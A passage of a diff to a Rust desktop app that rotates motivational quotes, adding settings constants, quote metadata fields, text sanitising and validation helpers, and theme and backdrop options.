@@ -9,9 +9,8 @@
 // - Theme customization modal
 // - All implemented in Pure Rust without Tauri or web technologies
 
-use std::fs::{File, OpenOptions};
-use std::io::{BufReader, Write};
-use std::thread;
+use std::fs::OpenOptions;
+use std::io::Write;
 use std::time::{Duration, Instant};
 
 use winit::raw_window_handle::HasWindowHandle;
@@ -22,22 +21,29 @@ use winit::{
     window::Window,
 };
 
-use egui::epaint::ClippedShape;
 use egui::Context;
 use egui::FontId;
 use egui::{Color32, Frame, RichText, Rounding, Sense, Stroke, TopBottomPanel, Vec2};
 use egui::{Pos2, Rect, Shape};
 
 #[cfg(windows)]
-use windows::Win32::Foundation::HWND;
+use windows::Win32::Foundation::{BOOL, HWND};
+#[cfg(windows)]
+use windows::Win32::Graphics::Dwm::{
+    DwmExtendFrameIntoClientArea, DwmSetWindowAttribute, DWMSBT_MAINWINDOW, DWMSBT_NONE,
+    DWMSBT_TRANSIENTWINDOW, DWMWA_SYSTEMBACKDROP_TYPE, DWMWA_USE_IMMERSIVE_DARK_MODE,
+    DWM_SYSTEMBACKDROP_TYPE,
+};
+#[cfg(windows)]
+use windows::Win32::UI::Controls::MARGINS;
 #[cfg(windows)]
 use windows::Win32::UI::WindowsAndMessaging::{
-    GetWindowLongW, SetLayeredWindowAttributes, SetPropW, SetWindowLongW, SetWindowPos,
-    GWL_EXSTYLE, HWND_TOPMOST, LWA_ALPHA, SWP_NOMOVE, SWP_NOSIZE, SWP_SHOWWINDOW, WS_EX_LAYERED,
+    GetWindowLongW, SetLayeredWindowAttributes, SetPropW, SetWindowLongW, GWL_EXSTYLE, LWA_ALPHA,
+    WS_EX_LAYERED,
 };
 
 use serde::{Deserialize, Serialize};
-use std::collections::HashMap;
+use std::collections::{HashMap, HashSet};
 
 // =============================================================================
 // CONSTANTS
@@ -49,6 +55,186 @@ use std::collections::HashMap;
 
 const TITLE_BAR_HEIGHT: f32 = 26.0; // Slightly taller for futuristic feel
 
+// Interface scale on top of the monitor's DPI (Ctrl+Shift+Plus/Minus steps)
+const UI_SCALE_RANGE: std::ops::RangeInclusive<f32> = 0.8..=1.6;
+const UI_SCALE_STEP: f32 = 0.1;
+
+// Frame pacing: redraw at least this often when idle, and never faster than ~60 FPS
+const IDLE_FRAME_INTERVAL: Duration = Duration::from_secs(1);
+const MIN_FRAME_INTERVAL: Duration = Duration::from_millis(16);
+// Low power mode: idle redraws this rarely and at most ~30 FPS otherwise
+const LOW_POWER_IDLE_FRAME_INTERVAL: Duration = Duration::from_secs(5);
+const LOW_POWER_MIN_FRAME_INTERVAL: Duration = Duration::from_millis(33);
+// How often the battery/AC status is read
+const POWER_POLL_INTERVAL: Duration = Duration::from_secs(30);
+
+const SETTINGS_FILE: &str = "settings.json";
+// Settings writer: how long a burst of saves may take to settle into one
+// write, and how long shutdown waits for the last one
+const SAVE_COALESCE: Duration = Duration::from_millis(150);
+const SAVE_FLUSH_TIMEOUT: Duration = Duration::from_secs(3);
+// Written at startup (in `config_dir`) and removed after STARTUP_GRACE or a
+// clean exit; still there at the next launch means that run died starting up
+// (safe mode)
+const STARTUP_MARKER: &str = "startup.marker";
+const STARTUP_GRACE: Duration = Duration::from_secs(5);
+// Panic reports (see `crash_report`), and how much of debug.log they keep
+const CRASH_DIR: &str = "crashes";
+const CRASH_LOG_LINES: usize = 50;
+
+// Initial value of the "default sub text" setting, filled in when a quote is
+// added without one
+const DEFAULT_SUB_TEXT: &str = "Keep pushing - You're doing great! 🌟";
+
+// Deleted quotes kept in the archive; the oldest are evicted first
+const ARCHIVE_LIMIT: usize = 500;
+
+// How long Clear All can be undone before the emptied list is written
+const CLEAR_GRACE: Duration = Duration::from_secs(10);
+
+// Previously shown quotes remembered for PREV
+const HISTORY_LIMIT: usize = 50;
+
+// Rotation interval bounds and the default preset chips (seconds)
+const MAX_INTERVAL_SECS: u64 = 3600;
+const DEFAULT_INTERVAL_PRESETS: [u64; 6] = [5, 10, 30, 60, 300, 900];
+
+// Pause rotation after this much user inactivity (0 disables)
+const DEFAULT_IDLE_PAUSE_SECS: u64 = 300;
+
+// Opt-in: hide the cursor once it has rested this long over the quote
+const DEFAULT_CURSOR_HIDE_SECS: u64 = 3;
+
+// Reading speed for stretching the interval on long quotes: words a minute,
+// and Bengali graphemes a minute (its word lengths vary too much to count)
+const DEFAULT_READING_WPM: u32 = 220;
+const DEFAULT_READING_BENGALI_CPM: u32 = 700;
+
+// Corner hotspots: square size at each window corner, and how long the
+// pointer has to rest there for a hover trigger
+const HOTSPOT_SIZE: f32 = 24.0;
+const HOTSPOT_DWELL: Duration = Duration::from_millis(500);
+
+// Window opacity while another app has focus, and the slider's range
+const DEFAULT_FOCUS_DIM_LEVEL: f32 = 0.4;
+const FOCUS_DIM_RANGE: std::ops::RangeInclusive<f32> = 0.1..=1.0;
+
+// How strongly the theme background still tints an acrylic/mica backdrop
+const BACKDROP_TINT_ALPHA: f32 = 0.35;
+
+// Clipboard capture: accepted text length (chars), how often the clipboard
+// is read, and the default time until capture switches itself off
+const CLIPBOARD_CAPTURE_CHARS: std::ops::RangeInclusive<usize> = 10..=300;
+const CLIPBOARD_POLL_INTERVAL: Duration = Duration::from_secs(1);
+const DEFAULT_CLIPBOARD_CAPTURE_MINUTES: u64 = 30;
+
+// Sound feedback: default volume, and the shortest gap between two rotation
+// chimes so rapid NEXT clicks don't stack them
+const DEFAULT_SOUND_VOLUME: f32 = 0.6;
+const CHIME_DEBOUNCE: Duration = Duration::from_millis(400);
+
+// Translation line size, relative to the sub text
+const TRANSLATION_SIZE_FACTOR: f32 = 0.85;
+
+// Longest main/sub text the add form accepts, in grapheme clusters
+const DEFAULT_QUOTE_MAX_CHARS: usize = 300;
+const QUOTE_MAX_CHARS_RANGE: std::ops::RangeInclusive<usize> = 20..=2000;
+
+// OS window title, and how much of the quote replaces it (see
+// `pending_window_title`)
+const APP_TITLE: &str = "Daily Motivation";
+const TITLE_QUOTE_CHARS: usize = 40;
+
+// Quick-add popup: the global shortcut that summons it, and its size
+const QUICK_ADD_HOTKEY_LABEL: &str = "Ctrl+Alt+Q";
+const QUICK_ADD_SIZE: (f32, f32) = (380.0, 190.0);
+
+// Global shortcut for click-through, the only way out of it
+const CLICK_THROUGH_HOTKEY_LABEL: &str = "Ctrl+Alt+T";
+
+// Scripting hooks: how long a command may run before it's killed, how
+// often the hook thread checks whether it has exited, and how many runs may
+// wait behind it (more are dropped)
+const HOOK_TIMEOUT: Duration = Duration::from_secs(5);
+const HOOK_POLL_INTERVAL: Duration = Duration::from_millis(50);
+const HOOK_QUEUE_LIMIT: usize = 4;
+
+// 3D background child: how long it must stay up to count as started, and
+// the retry backoff after it dies on launch (doubling up to the max)
+const BG_STARTUP_GRACE: Duration = Duration::from_secs(1);
+const BG_RETRY_BASE: Duration = Duration::from_secs(5);
+const BG_RETRY_MAX: Duration = Duration::from_secs(300);
+
+// GPU trouble: device recreations allowed within the window before giving
+// up, and how far an out-of-memory surface may be scaled down
+const GPU_RECOVERY_ATTEMPTS: u32 = 3;
+const GPU_RECOVERY_WINDOW: Duration = Duration::from_secs(60);
+const GPU_MIN_SURFACE_SCALE: f32 = 0.25;
+
+// Settings backups: the copy kept when one is restored, and the opt-in
+// automatic ones (folder next to settings.json, how often, how many kept)
+const PRERESTORE_FILE: &str = "settings.json.prerestore";
+const AUTO_BACKUP_DIR: &str = "backups";
+const AUTO_BACKUP_EVERY_DAYS: i64 = 7;
+const AUTO_BACKUP_KEEP: usize = 5;
+
+// Profile bundles: a backup plus what a new PC needs besides settings.json
+// (the manifest's name, and the folder inside the zip fonts travel in)
+const PROFILE_MANIFEST: &str = "profile.json";
+const BUNDLE_FONT_DIR: &str = "fonts";
+
+// Opt-in update check: the latest release of this repo, asked for at most
+// once a day and given up on quickly when offline
+const UPDATE_RELEASES_URL: &str =
+    "https://api.github.com/repos/IroScript/Rust_Task_With_Time_Keeping_And_Live_Note/releases/latest";
+const UPDATE_CHECK_TIMEOUT: Duration = Duration::from_secs(5);
+
+// Stream overlay: the local port it listens on unless told otherwise, and
+// how often its page asks for the current quote
+const DEFAULT_OVERLAY_PORT: u16 = 8765;
+const OVERLAY_REFRESH_MS: u64 = 1000;
+
+// Length of the cue played when a quote arrives from outside the window
+const ATTENTION_CUE_DURATION: Duration = Duration::from_millis(300);
+// Furthest the attention shake moves the window from where it was, in pixels
+const ATTENTION_SHAKE_PX: f32 = 3.0;
+
+// How long "return home" takes to glide the window back
+const HOME_MOVE_DURATION: Duration = Duration::from_millis(400);
+
+// "On hover" nav buttons: fade time, and the opacity below which they
+// ignore clicks
+const NAV_FADE_SECS: f32 = 0.3;
+const NAV_MIN_CLICK_OPACITY: f32 = 0.2;
+
+// Canvas swipes (see `handle_quote_swipe`): how far a drag must go to change
+// the quote or toggle the panel, and the slide the new quote comes in with
+// (a share of the canvas width)
+const SWIPE_QUOTE_DISTANCE: f32 = 60.0;
+const SWIPE_PANEL_DISTANCE: f32 = 100.0;
+const SLIDE_DURATION: Duration = Duration::from_millis(250);
+const SLIDE_FRACTION: f32 = 0.15;
+
+// The add form's preview is shaped this long after the last keystroke
+const PREVIEW_SHAPE_DELAY: Duration = Duration::from_millis(150);
+
+// Star rating range; also the weight a quote gets in random rotation
+const MAX_RATING: u8 = 5;
+const DEFAULT_RATING: u8 = 3;
+
+// Emoji picker: most recently used emoji shown first, this many kept
+const RECENT_EMOJI_LIMIT: usize = 12;
+
+// Ids of the ADD CUSTOM TEXT inputs, so emoji can be inserted at their cursor
+const MAIN_TEXT_INPUT_ID: &str = "main_text_input";
+const SUB_TEXT_INPUT_ID: &str = "sub_text_input";
+// Hover help for the sub-text field, listing what `expand_template` knows
+const SUB_TEXT_PLACEHOLDERS_HINT: &str = "Placeholders: {time}, {date}, {quote_index}, \
+{session_minutes}, {streak_days}\nUse {{ and }} for literal braces";
+
+// How often the OS light/dark and accent settings are re-read
+const SYSTEM_THEME_POLL_INTERVAL: Duration = Duration::from_secs(3);
+
 // ── DEEP VOID PALETTE ─────────────────────────────────
 const BG_GLASS: Color32 = Color32::TRANSPARENT;
 
@@ -59,18 +245,25 @@ const NEON_SOLAR: Color32 = Color32::from_rgb(255, 160, 0); // #FFA000
 const NEON_LIME: Color32 = Color32::from_rgb(80, 255, 120); // #50FF78
 const NEON_ROSE: Color32 = Color32::from_rgb(255, 40, 120); // #FF2878
 
-// ── TITLE BAR ─────────────────────────────────────────
-const TITLEBAR_FG: Color32 = NEON_CYAN;
-
 // ── BUTTON STATES ─────────────────────────────────────
 const BTN_NORMAL_BG: Color32 = Color32::TRANSPARENT;
 const BTN_ACTIVE_BG: Color32 = Color32::from_rgb(0, 120, 100);
 const BTN_ACTIVE_FG: Color32 = Color32::WHITE;
 
 // ── DIMENSIONS ────────────────────────────────────────
-const CONTROL_PANEL_WIDTH: f32 = 300.0;
+const CONTROL_PANEL_WIDTH: f32 = 300.0; // Default; the panel is resizable
+const CONTROL_PANEL_WIDTH_RANGE: std::ops::RangeInclusive<f32> = 220.0..=480.0;
+// TEXT LIST rows are a fixed height so only the visible ones get built
+const TEXT_LIST_ROW_HEIGHT: f32 = 64.0;
+const TEXT_LIST_MAX_HEIGHT: f32 = 420.0;
 const DEFAULT_WINDOW_SIZE: (u32, u32) = (1100, 700);
-const MIN_WINDOW_SIZE: (u32, u32) = (450, 350);
+const MIN_WINDOW_SIZE: (u32, u32) = (450, 300); // Low enough for the Banner preset
+const MINI_WINDOW_SIZE: (u32, u32) = (420, 90);
+// Layout breakpoints (see `LayoutTier`), and the canvas height at which the
+// quote block gets its full padding
+const LAYOUT_COMPACT_WIDTH: f32 = 600.0;
+const LAYOUT_NARROW_WIDTH: f32 = 500.0;
+const LAYOUT_FULL_PADDING_HEIGHT: f32 = 560.0;
 
 // ── PANEL / CANVAS ────────────────────────────────────
 const CANVAS_BG: Color32 = Color32::TRANSPARENT;
@@ -85,27 +278,422 @@ const CONTROL_PANEL_BG: Color32 = Color32::TRANSPARENT;
 pub struct Quote {
     pub main_text: String,
     pub sub_text: String,
+    #[serde(default)]
+    pub tags: Vec<String>,
+    // 1..=5 stars
+    #[serde(default = "default_rating")]
+    pub rating: u8,
+    // Same quote in a second language (see `TranslationDisplay`)
+    #[serde(default)]
+    pub translation: Option<String>,
+    // Where it came from: an http(s) link, opened only when clicked
+    #[serde(default)]
+    pub source_url: Option<String>,
+    // Private note (why it was saved, where it's from); never drawn on the
+    // canvas, only shown as a tooltip
+    #[serde(default)]
+    pub note: Option<String>,
+    // Calm / Neutral / Intense, for matching quotes to the time of day
+    #[serde(default)]
+    pub energy: EnergyLevel,
+}
+
+fn default_rating() -> u8 {
+    DEFAULT_RATING
 }
 
 impl Default for Quote {
     fn default() -> Self {
+        Self::new(
+            "Focus on your goals - Success awaits!",
+            "Keep pushing - You're doing great!",
+        )
+    }
+}
+
+impl Quote {
+    pub fn new(main_text: impl Into<String>, sub_text: impl Into<String>) -> Self {
         Self {
-            main_text: "Focus on your goals - Success awaits!".to_string(),
-            sub_text: "Keep pushing - You're doing great!".to_string(),
+            main_text: main_text.into(),
+            sub_text: sub_text.into(),
+            tags: Vec::new(),
+            rating: DEFAULT_RATING,
+            translation: None,
+            source_url: None,
+            note: None,
+            energy: EnergyLevel::default(),
         }
     }
+
+    /// The translation, if there is one worth showing
+    pub fn translation(&self) -> Option<&str> {
+        self.translation
+            .as_deref()
+            .map(str::trim)
+            .filter(|t| !t.is_empty())
+    }
+
+    /// The private note, if it isn't blank
+    pub fn note(&self) -> Option<&str> {
+        self.note
+            .as_deref()
+            .map(str::trim)
+            .filter(|n| !n.is_empty())
+    }
+
+    /// The source link, if it's one that may be opened (see `is_web_url`);
+    /// a hand-edited settings file or an import can hold anything
+    pub fn source_url(&self) -> Option<&str> {
+        self.source_url
+            .as_deref()
+            .map(str::trim)
+            .filter(|url| is_web_url(url))
+    }
+
+    /// Weight in random rotation: the star rating, clamped to 1..=5
+    pub fn weight(&self) -> u32 {
+        self.rating.clamp(1, MAX_RATING) as u32
+    }
+
+    /// Case-insensitive tag membership check
+    pub fn has_tag(&self, tag: &str) -> bool {
+        self.tags.iter().any(|t| t.eq_ignore_ascii_case(tag))
+    }
 }
 
-/// Theme configuration for the application
+/// A named group of quotes ("Morning", "Gym", "Deep Work" ...)
 #[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct Collection {
+    pub name: String,
+    pub quotes: Vec<Quote>,
+}
+
+impl Collection {
+    pub fn new(name: impl Into<String>, quotes: Vec<Quote>) -> Self {
+        Self {
+            name: name.into(),
+            quotes,
+        }
+    }
+}
+
+/// Drop a deleted quote from the history and shift later indices down
+fn remap_history(history: &mut Vec<usize>, removed: usize) {
+    history.retain(|&idx| idx != removed);
+    for idx in history.iter_mut() {
+        if *idx > removed {
+            *idx -= 1;
+        }
+    }
+    history.dedup();
+}
+
+/// Where `index` ends up once the (sorted, deduplicated) `removed` indices
+/// are taken out of the list; None when it was one of them
+fn index_after_removal(index: usize, removed: &[usize]) -> Option<usize> {
+    if removed.binary_search(&index).is_ok() {
+        return None;
+    }
+    Some(index - removed.partition_point(|&r| r < index))
+}
+
+/// Split a comma separated tag input into trimmed, non-empty tags
+fn parse_tags(input: &str) -> Vec<String> {
+    input
+        .split(',')
+        .map(|t| t.trim().trim_start_matches('#').to_string())
+        .filter(|t| !t.is_empty())
+        .collect()
+}
+
+/// User-perceived characters: a Bengali conjunct or a ZWJ emoji family is
+/// one, however many bytes or code points it takes
+fn grapheme_count(text: &str) -> usize {
+    use unicode_segmentation::UnicodeSegmentation;
+    text.graphemes(true).count()
+}
+
+/// Roughly how long `text` takes to read: words at `wpm`, except words in
+/// Bengali script, which go by grapheme at `bengali_cpm`
+fn reading_time(text: &str, wpm: u32, bengali_cpm: u32) -> Duration {
+    let (mut words, mut bengali) = (0usize, 0usize);
+    for word in text.split_whitespace() {
+        if word
+            .chars()
+            .any(|c| ComplexScript::of(c) == Some(ComplexScript::Bengali))
+        {
+            bengali += grapheme_count(word);
+        } else if word.chars().any(char::is_alphanumeric) {
+            words += 1;
+        }
+    }
+    let minutes = words as f64 / wpm.max(1) as f64 + bengali as f64 / bengali_cpm.max(1) as f64;
+    Duration::from_secs_f64(minutes * 60.0)
+}
+
+/// `text` on one line, cut to `max` graphemes with a trailing …
+fn ellipsize(text: &str, max: usize) -> std::borrow::Cow<'_, str> {
+    use unicode_segmentation::UnicodeSegmentation;
+    let single_line = !text.contains(['\n', '\r']);
+    if single_line && grapheme_count(text) <= max {
+        return std::borrow::Cow::Borrowed(text);
+    }
+    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
+    if grapheme_count(&flat) <= max {
+        return std::borrow::Cow::Owned(flat);
+    }
+    let mut cut: String = flat.graphemes(true).take(max.saturating_sub(1)).collect();
+    cut.truncate(cut.trim_end().len());
+    cut.push('…');
+    std::borrow::Cow::Owned(cut)
+}
+
+/// Why the add form's inputs can't (or maybe shouldn't) be added
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum InputIssue {
+    /// Main text is empty or only whitespace
+    Empty,
+    /// Main or sub text is over the max length
+    TooLong,
+    /// Same main text as a quote already in the collection; a warning only
+    Duplicate,
+    /// Source link given but not an http(s) URL (see `is_web_url`)
+    BadUrl,
+}
+
+impl InputIssue {
+    pub fn blocks_submit(self) -> bool {
+        matches!(
+            self,
+            InputIssue::Empty | InputIssue::TooLong | InputIssue::BadUrl
+        )
+    }
+}
+
+/// Whether `text` can be a quote's source link: an absolute http(s) URL, so
+/// clicking it can only ever open a web page
+fn is_web_url(text: &str) -> bool {
+    url::Url::parse(text)
+        .is_ok_and(|url| matches!(url.scheme(), "http" | "https") && url.has_host())
+}
+
+/// Clean up text pasted from PDFs and web pages: CRLF to LF, NFC, straight
+/// quotes, one space for any run of (non-breaking, thin ...) spaces, no
+/// zero-width characters, trimmed lines and at most one blank line in a
+/// row. ZWJ/ZWNJ survive between letters of a complex script (Bengali
+/// র‍্য, ক্‌ষ) and inside emoji sequences, where they change the rendering.
+fn sanitize_quote_text(text: &str) -> String {
+    use unicode_normalization::UnicodeNormalization;
+    // ZWJ/ZWNJ neighbors that make the joiner meaningful
+    fn joins(c: Option<char>) -> bool {
+        c.is_some_and(|c| {
+            ComplexScript::of(c).is_some() || contains_emoji(c.encode_utf8(&mut [0; 4]))
+        })
+    }
+
+    let text = text.replace("\r\n", "\n").replace('\r', "\n");
+    let chars: Vec<char> = text.nfc().collect();
+    let mut cleaned = String::with_capacity(text.len());
+    for (i, &c) in chars.iter().enumerate() {
+        match c {
+            '\u{200C}' | '\u{200D}' => {
+                if joins(cleaned.chars().last()) && joins(chars.get(i + 1).copied()) {
+                    cleaned.push(c);
+                }
+            }
+            // Zero-width space, word joiner, BOM, soft hyphen
+            '\u{200B}' | '\u{2060}' | '\u{FEFF}' | '\u{00AD}' => {}
+            '\u{2028}' | '\u{2029}' => cleaned.push('\n'),
+            '\u{201C}' | '\u{201D}' | '\u{201E}' | '\u{201F}' => cleaned.push('"'),
+            '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}' => cleaned.push('\''),
+            c if c != '\n' && c.is_whitespace() => cleaned.push(' '),
+            c => cleaned.push(c),
+        }
+    }
+
+    let mut lines: Vec<String> = Vec::new();
+    for line in cleaned.split('\n') {
+        let words: Vec<&str> = line.split(' ').filter(|w| !w.is_empty()).collect();
+        let line = words.join(" ");
+        if line.is_empty() && lines.last().is_some_and(|l| l.is_empty()) {
+            continue;
+        }
+        lines.push(line);
+    }
+    lines.join("\n").trim().to_string()
+}
+
+/// Random source for a session: deterministic for a given seed, otherwise
+/// seeded from OS entropy
+fn seeded_rng(seed: Option<u64>) -> rand::rngs::StdRng {
+    use rand::SeedableRng;
+    match seed {
+        Some(seed) => {
+            log_to_file(&format!("Random seed: {}", seed));
+            rand::rngs::StdRng::seed_from_u64(seed)
+        }
+        None => rand::rngs::StdRng::from_entropy(),
+    }
+}
+
+/// Check the add form's inputs against `max_chars` and the existing quotes
+fn validate_quote_input<'a>(
+    main: &str,
+    sub: &str,
+    max_chars: usize,
+    quotes: impl IntoIterator<Item = &'a Quote>,
+) -> Option<InputIssue> {
+    let main = main.trim();
+    if main.is_empty() {
+        return Some(InputIssue::Empty);
+    }
+    if grapheme_count(main) > max_chars || grapheme_count(sub.trim()) > max_chars {
+        return Some(InputIssue::TooLong);
+    }
+    // Both sides cleaned up first, so odd spaces on either still match
+    let lower = sanitize_quote_text(main).to_lowercase();
+    quotes
+        .into_iter()
+        .any(|q| sanitize_quote_text(&q.main_text).to_lowercase() == lower)
+        .then_some(InputIssue::Duplicate)
+}
+
+/// "87 / 300" under a text input, in rose once it's over
+fn render_char_counter(ui: &mut egui::Ui, text: &str, max_chars: usize) {
+    let count = grapheme_count(text.trim());
+    let color = if count > max_chars {
+        NEON_ROSE
+    } else {
+        Color32::GRAY
+    };
+    ui.with_layout(egui::Layout::right_to_left(egui::Align::Min), |ui| {
+        // Line up with the text box's right edge, left of the A+/A- column
+        ui.add_space(84.0);
+        ui.label(
+            RichText::new(format!("{} / {}", count, max_chars))
+                .color(color)
+                .size(9.5),
+        );
+    });
+}
+
+/// Theme configuration for the application
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
 pub struct ThemeConfig {
     pub mode: ThemeMode,
     pub gradient_angle: i32,
     pub gradient_colors: Vec<Color32>,
     pub solid_color: Color32,
     pub apply_to_entire_window: bool,
+    // UI chrome colors (HUD lines, button glow, section markers)
+    #[serde(default = "default_accent_primary")]
+    pub accent_primary: Color32,
+    #[serde(default = "default_accent_secondary")]
+    pub accent_secondary: Color32,
+    // Take UI brightness and the primary accent from the OS where possible
+    #[serde(default)]
+    pub follow_system: bool,
+    #[serde(default)]
+    pub gradient_interpolation: GradientInterpolation,
+    // Frosted OS backdrop behind the window (Windows 11 22H2+)
+    #[serde(default)]
+    pub backdrop: BackdropEffect,
+}
+
+fn default_accent_primary() -> Color32 {
+    NEON_CYAN
+}
+
+fn default_accent_secondary() -> Color32 {
+    NEON_LIME
+}
+
+/// The two theme accents, copied out for renderers that can't hold `&state`
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub struct Accents {
+    pub primary: Color32,
+    pub secondary: Color32,
+}
+
+impl ThemeConfig {
+    pub fn accents(&self) -> Accents {
+        Accents {
+            primary: self.accent_primary,
+            secondary: self.accent_secondary,
+        }
+    }
 }
 
+/// Built-in gradients: name, stops, primary and secondary accent
+const GRADIENT_PRESETS: [(&str, [Color32; 4], Color32, Color32); 6] = [
+    (
+        "⬡ Aurora Void",
+        [
+            Color32::from_rgb(2, 4, 16),
+            Color32::from_rgb(30, 0, 80),
+            Color32::from_rgb(0, 60, 120),
+            Color32::from_rgb(0, 200, 180),
+        ],
+        NEON_CYAN,
+        NEON_LIME,
+    ),
+    (
+        "⬡ Solar Flare",
+        [
+            Color32::from_rgb(10, 0, 30),
+            Color32::from_rgb(120, 20, 0),
+            Color32::from_rgb(255, 100, 0),
+            Color32::from_rgb(255, 220, 60),
+        ],
+        NEON_SOLAR,
+        Color32::from_rgb(255, 220, 60),
+    ),
+    (
+        "⬡ Plasma Storm",
+        [
+            Color32::from_rgb(5, 0, 20),
+            Color32::from_rgb(80, 0, 180),
+            Color32::from_rgb(200, 0, 255),
+            Color32::from_rgb(255, 80, 200),
+        ],
+        Color32::from_rgb(220, 90, 255),
+        Color32::from_rgb(255, 80, 200),
+    ),
+    (
+        "⬡ Deep Ocean",
+        [
+            Color32::from_rgb(0, 5, 20),
+            Color32::from_rgb(0, 30, 80),
+            Color32::from_rgb(0, 100, 160),
+            Color32::from_rgb(0, 200, 220),
+        ],
+        Color32::from_rgb(0, 200, 220),
+        Color32::from_rgb(120, 220, 255),
+    ),
+    (
+        "⬡ Matrix Rain",
+        [
+            Color32::from_rgb(0, 8, 0),
+            Color32::from_rgb(0, 40, 10),
+            Color32::from_rgb(0, 120, 30),
+            Color32::from_rgb(80, 255, 100),
+        ],
+        Color32::from_rgb(80, 255, 100),
+        Color32::from_rgb(190, 255, 120),
+    ),
+    (
+        "⬡ Quantum Noir",
+        [
+            Color32::from_rgb(2, 2, 6),
+            Color32::from_rgb(10, 10, 25),
+            Color32::from_rgb(25, 25, 50),
+            Color32::from_rgb(60, 60, 100),
+        ],
+        Color32::from_rgb(160, 160, 220),
+        Color32::from_rgb(220, 220, 255),
+    ),
+];
+
 impl Default for ThemeConfig {
     fn default() -> Self {
         Self {
@@ -119,6 +707,11 @@ impl Default for ThemeConfig {
             ],
             solid_color: Color32::from_rgb(2, 8, 24),
             apply_to_entire_window: true,
+            accent_primary: default_accent_primary(),
+            accent_secondary: default_accent_secondary(),
+            follow_system: false,
+            gradient_interpolation: GradientInterpolation::default(),
+            backdrop: BackdropEffect::default(),
         }
     }
 }
@@ -129,8 +722,55 @@ pub enum ThemeMode {
     Solid,
 }
 
+/// System backdrop material DWM draws behind the window. While one is in
+/// effect the theme background is painted translucent on top of it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum BackdropEffect {
+    #[default]
+    None,
+    Acrylic,
+    Mica,
+}
+
+impl BackdropEffect {
+    pub const ALL: [BackdropEffect; 3] = [
+        BackdropEffect::None,
+        BackdropEffect::Acrylic,
+        BackdropEffect::Mica,
+    ];
+
+    pub fn label(self) -> &'static str {
+        match self {
+            BackdropEffect::None => "Off",
+            BackdropEffect::Acrylic => "Acrylic",
+            BackdropEffect::Mica => "Mica",
+        }
+    }
+}
+
+/// Color space gradient stops are blended in. Plain sRGB lerps turn
+/// saturated pairs (cyan → magenta) grey in the middle; OKLab doesn't.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum GradientInterpolation {
+    Srgb,
+    #[default]
+    Oklab,
+}
+
+impl GradientInterpolation {
+    pub const ALL: [GradientInterpolation; 2] =
+        [GradientInterpolation::Srgb, GradientInterpolation::Oklab];
+
+    pub fn label(self) -> &'static str {
+        match self {
+            GradientInterpolation::Srgb => "sRGB",
+            GradientInterpolation::Oklab => "OKLab",
+        }
+    }
+}
+
 /// Text styling configuration
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
 pub struct TextStyleConfig {
     pub main_text_size: f32,
     pub sub_text_size: f32,
@@ -139,6 +779,179 @@ pub struct TextStyleConfig {
     pub main_line_gap: f32,
     pub sub_line_gap: f32,
     pub between_gap: f32,
+    // Drop shadow behind the quote lines (None = off)
+    #[serde(default)]
+    pub text_shadow: Option<ShadowStyle>,
+    // Shrink quotes that would overflow the panel; the sizes above are the maximum
+    #[serde(default)]
+    pub auto_fit: bool,
+    // Display-only casing; the stored quote is never changed
+    #[serde(default)]
+    pub main_transform: TextTransform,
+    #[serde(default)]
+    pub sub_transform: TextTransform,
+    // Extra space between the main text's letters, in points
+    #[serde(default)]
+    pub main_letter_spacing: f32,
+    // Where a quote's translation goes, if it has one
+    #[serde(default)]
+    pub translation_display: TranslationDisplay,
+}
+
+/// How a quote's translation is shown
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum TranslationDisplay {
+    Hidden,
+    // Smaller, muted line under the sub text
+    #[default]
+    ThirdLine,
+    // Translation and original take turns as the main line, one per rotation
+    Alternate,
+}
+
+impl TranslationDisplay {
+    pub const ALL: [TranslationDisplay; 3] = [
+        TranslationDisplay::Hidden,
+        TranslationDisplay::ThirdLine,
+        TranslationDisplay::Alternate,
+    ];
+
+    pub fn label(self) -> &'static str {
+        match self {
+            TranslationDisplay::Hidden => "Hidden",
+            TranslationDisplay::ThirdLine => "Third line",
+            TranslationDisplay::Alternate => "Alternate with main",
+        }
+    }
+}
+
+/// Casing applied to quote text when it is drawn
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum TextTransform {
+    #[default]
+    None,
+    Upper,
+    Title,
+    Lower,
+}
+
+impl TextTransform {
+    pub const ALL: [TextTransform; 4] = [
+        TextTransform::None,
+        TextTransform::Upper,
+        TextTransform::Title,
+        TextTransform::Lower,
+    ];
+
+    pub fn label(self) -> &'static str {
+        match self {
+            TextTransform::None => "As typed",
+            TextTransform::Upper => "UPPERCASE",
+            TextTransform::Title => "Title Case",
+            TextTransform::Lower => "lowercase",
+        }
+    }
+
+    /// `text` recased for display. Text with no cased letters at all (Bengali,
+    /// emoji) comes back untouched.
+    pub fn apply(self, text: &str) -> std::borrow::Cow<'_, str> {
+        let cased = |c: char| c.is_uppercase() || c.is_lowercase();
+        if self == TextTransform::None || !text.chars().any(cased) {
+            return std::borrow::Cow::Borrowed(text);
+        }
+        std::borrow::Cow::Owned(match self {
+            TextTransform::None => return std::borrow::Cow::Borrowed(text),
+            TextTransform::Upper => text.to_uppercase(),
+            TextTransform::Lower => text.to_lowercase(),
+            TextTransform::Title => {
+                let mut out = String::with_capacity(text.len());
+                let mut word_start = true;
+                for c in text.chars() {
+                    if word_start && cased(c) {
+                        out.extend(c.to_uppercase());
+                        word_start = false;
+                    } else if c.is_whitespace() {
+                        out.push(c);
+                        word_start = true;
+                    } else {
+                        out.extend(c.to_lowercase());
+                    }
+                }
+                out
+            }
+        })
+    }
+}
+
+/// Digits used in numbers the app itself writes (counter, Δt, intervals,
+/// streak); input widgets always stay Latin
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub enum NumeralSystem {
+    #[default]
+    Latin,
+    Bengali,
+}
+
+impl NumeralSystem {
+    pub const ALL: [NumeralSystem; 2] = [NumeralSystem::Latin, NumeralSystem::Bengali];
+
+    pub fn label(self) -> &'static str {
+        match self {
